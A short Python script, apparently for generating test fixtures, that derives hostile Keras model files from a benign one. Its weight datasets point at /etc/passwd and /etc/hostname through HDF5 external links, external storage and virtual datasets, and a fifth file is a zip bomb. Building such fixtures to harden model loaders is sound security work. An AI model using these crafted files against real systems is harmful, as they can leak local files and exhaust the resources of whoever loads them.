#!/usr/bin/env python3
"""The hostile files of this folder, out of chain.keras (pip install h5py):

    hostile.py FOLDER

link.keras, storage.keras, view.keras: the numbers of a layer are said to lie in another file, by each of
HDF5's three ways; bomb.keras: a zip that unpacks to hundreds of times its size."""
import io
import os
import sys
import zipfile

import h5py

HERE = os.path.dirname(os.path.abspath(__file__))
NAME = "layers/dense/vars/1"


def link(f):
    f[NAME] = h5py.ExternalLink("/etc/hostname", "/x")


def storage(f):
    f.create_dataset(NAME, (8,), "f4", external=[("/etc/passwd", 0, 32)])


def view(f):
    all_of_it = h5py.VirtualLayout((8,), "f4")
    all_of_it[:] = h5py.VirtualSource("/etc/hostname", "x", (8,))
    f.create_virtual_dataset(NAME, all_of_it)


def write(name, config, weights, how):
    with zipfile.ZipFile(os.path.join(sys.argv[1], name + ".keras"), "w", how) as z:
        z.writestr("config.json", config)
        z.writestr("model.weights.h5", weights)


with zipfile.ZipFile(os.path.join(HERE, "chain.keras")) as z:
    config, weights = z.read("config.json"), z.read("model.weights.h5")
for change in link, storage, view:
    image = io.BytesIO(weights)
    with h5py.File(image, "r+") as f:
        del f[NAME]
        change(f)
    write(change.__name__, config, image.getvalue(), zipfile.ZIP_DEFLATED)
write("bomb", config, bytes(2_000_000), zipfile.ZIP_DEFLATED)
